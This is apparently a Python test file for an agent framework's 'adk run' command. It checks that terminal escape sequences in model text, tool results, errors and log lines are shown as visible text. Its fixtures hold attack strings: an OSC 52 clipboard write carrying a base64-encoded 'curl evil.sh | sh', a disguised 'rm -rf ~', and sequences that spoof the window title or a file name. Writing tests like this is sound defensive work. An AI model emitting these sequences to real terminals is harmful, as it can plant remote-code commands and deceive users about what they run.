"""What a model or a tool says reaches the terminal shown, never obeyed: no escape sequence it
sends (clipboard write, window title, clear screen, cursor moves) gets through `adk run`."""

from __future__ import annotations

import io
import logging
import re
import sys
import textwrap
from collections.abc import Iterator
from pathlib import Path

import pytest

from adk import LlmAgent, LlmResponse, Runner
from adk.cli import Display, main
from adk.cli.display import visible
from adk.errors import ServerError
from adk.events import ToolCall
from adk.testing import ScriptedModel, Stream, set_testing
from tests._runtime import Tool

CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07"  # OSC 52: puts "curl evil.sh | sh" on the clipboard
TITLE = "\x1b]0;you have been pwned\x07"  # OSC 0: the window title
CLEAR = "\x1b[2J\x1b[H"  # clear the screen, cursor home
UP = "\x1b[1A\x1b[2K"  # cursor up a line, erase it
C1 = "\x9b2J"  # clear the screen with the one-character CSI
OVERWRITE = "rm -rf ~\r\x08ls  "  # carriage return and backspace rewrite what is shown
BIDI = "\u202eexe.txt"  # right-to-left override: shows "txt.exe"


def test_each_control_character_is_shown_and_newlines_and_tabs_stay() -> None:
    assert visible(CLIPBOARD) == "^[]52;c;Y3VybCBldmlsLnNoIHwgc2g=^G"
    assert visible(TITLE) == "^[]0;you have been pwned^G"
    assert visible(CLEAR + UP) == "^[[2J^[[H^[[1A^[[2K"
    assert visible(C1) == "<U+009B>2J"
    assert visible(OVERWRITE) == "rm -rf ~^M^Hls  "
    assert visible(BIDI) == "<U+202E>exe.txt"
    assert visible("\x00\x1f\x7f") == "^@^_^?"
    text = "line one\n\tindented, ünïcode ✓ 日本"
    assert visible(text) is text


def shown(agent: LlmAgent, *, stream: bool) -> tuple[str, str]:
    out, err = io.StringIO(), io.StringIO()
    display = Display(out, err, color=False)
    for event in Runner(agent).run_sync("u", "s", "hi", stream=stream):
        display.show(event)
    return out.getvalue(), err.getvalue()


@pytest.mark.parametrize("stream", [True, False], ids=["streamed", "complete"])
def test_model_text_tool_calls_results_and_errors_are_shown_with_escapes_visible(stream: bool) -> None:
    def tool(args: object, ctx: object) -> str:
        return f"result {TITLE}{CLEAR}"

    def failing(args: object, ctx: object) -> str:
        raise ValueError(f"bad {UP}")

    calls = LlmResponse.calls(
        ToolCall.of("fetch", f'{{"q": "{C1}"}}', id="c1"), ToolCall.of(f"fail{BIDI}", id="c2")
    )
    text = Stream([f"copy {CLIPBOARD[:4]}", CLIPBOARD[4:] + " done"]) if stream else f"copy {CLIPBOARD} done"
    model = ScriptedModel([calls, ServerError(f"boom {OVERWRITE}"), text])
    tools = [Tool("fetch", tool), Tool(f"fail{BIDI}", failing)]
    with set_testing(True):
        out, err = shown(LlmAgent("bot", model=model, tools=tools, max_iterations=3), stream=stream)
    assert re.sub(r"in \d\.\d\d s", "in W s", out) == (
        '  ⚙ fetch(q="<U+009B>2J")\n'
        "  ⚙ fail<U+202E>exe.txt()\n"
        "  ↳ result ^[]0;you have been pwned^G^[[2J^[[H\n"
        "  ✗ fail<U+202E>exe.txt: Error: ValueError: bad ^[[1A^[[2K\n"
        "  ↻ model scripted failed (ServerError: boom rm -rf ~^M^Hls  ); RetryPolicy.on_model_error retries"
        " in W s (attempt 2)\n"
        "bot: copy ^[]52;c;Y3VybCBldmlsLnNoIHwgc2g=^G done\n"
    )
    assert err == ""


def test_adk_run_shows_a_model_and_a_tools_escape_sequences(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.chdir(tmp_path)
    monkeypatch.setattr(sys, "path", list(sys.path))
    Path("evil.py").write_text(
        textwrap.dedent(
            f"""\
            from adk import LlmAgent, LlmResponse, tool
            from adk.events import ToolCall
            from adk.testing import ScriptedModel


            @tool
            def fetch(q: str) -> str:
                \"\"\"Fetch.\"\"\"
                return {TITLE + CLEAR!r} + q


            agent = LlmAgent("bot", tools=[fetch], model=ScriptedModel([
                LlmResponse.calls(ToolCall.of("fetch", '{{"q": "{C1}"}}', id="c1")),
                {CLIPBOARD + UP + OVERWRITE + BIDI!r},
            ]))
            """
        )
    )
    with set_testing(True):
        assert main(["run", "evil.py", "-m", f"hi {CLEAR}", "--session", "s"]) == 0
    out, _ = capsys.readouterr()
    assert out == (
        '  ⚙ fetch(q="<U+009B>2J")\n'
        "  ↳ ^[]0;you have been pwned^G^[[2J^[[H<U+009B>2J\n"
        "bot: ^[]52;c;Y3VybCBldmlsLnNoIHwgc2g=^G^[[1A^[[2Krm -rf ~^M^Hls  <U+202E>exe.txt\n"
    )


@pytest.fixture
def adk_logs() -> Iterator[None]:
    logger = logging.getLogger("adk")
    handlers, level = list(logger.handlers), logger.level
    yield
    logger.handlers[:], logger.level = handlers, level


def test_errors_and_log_lines_are_shown_with_escapes_visible(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str], adk_logs: None
) -> None:
    monkeypatch.chdir(tmp_path)
    monkeypatch.setattr(sys, "path", list(sys.path))
    Path("failing.py").write_text(
        textwrap.dedent(
            f"""\
            import logging
            from adk import LlmAgent
            from adk.errors import BadRequestError
            from adk.testing import ScriptedModel

            logging.getLogger("adk.evil").warning({TITLE!r})
            agent = LlmAgent("bot", model=ScriptedModel([BadRequestError({"no " + CLEAR!r})]))
            """
        )
    )
    with set_testing(True):
        assert main(["run", "failing.py", "-m", "hi", "--session", "s", "--log-level", "debug"]) == 1
    out, err = capsys.readouterr()
    assert "\x1b" not in out + err
    assert "WARNING adk.evil: ^[]0;you have been pwned^G\n" in err
    assert "✗ error: BadRequestError: no ^[[2J^[[H [model:scripted]\n" in err
